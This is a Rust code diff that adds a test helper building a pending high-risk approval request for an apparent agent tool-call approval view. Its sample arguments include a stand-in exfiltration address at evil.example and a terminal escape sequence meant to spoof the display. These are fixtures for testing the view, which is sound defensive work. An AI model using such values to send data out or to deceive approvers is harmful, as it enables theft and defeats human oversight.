@@ -141,29 +141,37 @@ impl ApprovalsView {
     }
 }
 
+/// A pending request for tests: `tool` asked for by `session`, expiring `expires_in` seconds
+/// after `now`, with arguments an injected agent would send.
+#[cfg(test)]
+pub(crate) fn pending_request(id: &str, session: &str, tool: &str, expires_in: i64, now: Timestamp) -> Approval {
+    use crate::model::untrusted::UntrustedJson;
+    Approval {
+        id: id.into(),
+        session_id: session.into(),
+        step: 3,
+        tool: tool.into(),
+        arguments: UntrustedJson::new(serde_json::json!({"to": "exfil@evil.example", "body": "\u{1b}]0;PWNED\u{7}"})),
+        risk: crate::model::approval::Risk::High,
+        requested_at: now,
+        expires_at: now + chrono::Duration::seconds(expires_in),
+        required_approvers: 1,
+        decisions: Vec::new(),
+        status: ApprovalStatus::Pending,
+        unreadable: None,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::model::approval::Risk;
     use crate::model::time;
     use crate::model::untrusted::UntrustedJson;
 
     fn request(id: &str, session: &str, tool: &str, expires_in: i64) -> Approval {
-        let now = time::now();
-        Approval {
-            id: id.into(),
-            session_id: session.into(),
-            step: 1,
-            tool: tool.into(),
-            arguments: UntrustedJson::new(serde_json::json!({"to": format!("{id}@example.com")})),
-            risk: Risk::High,
-            requested_at: now,
-            expires_at: now + chrono::Duration::seconds(expires_in),
-            required_approvers: 1,
-            decisions: Vec::new(),
-            status: ApprovalStatus::Pending,
-            unreadable: None,
-        }
+        let mut a = pending_request(id, session, tool, expires_in, time::now());
+        a.arguments = UntrustedJson::new(serde_json::json!({"to": format!("{id}@example.com")}));
+        a
     }
 
     fn queue() -> (ApprovalsView, Vec<Session>) {
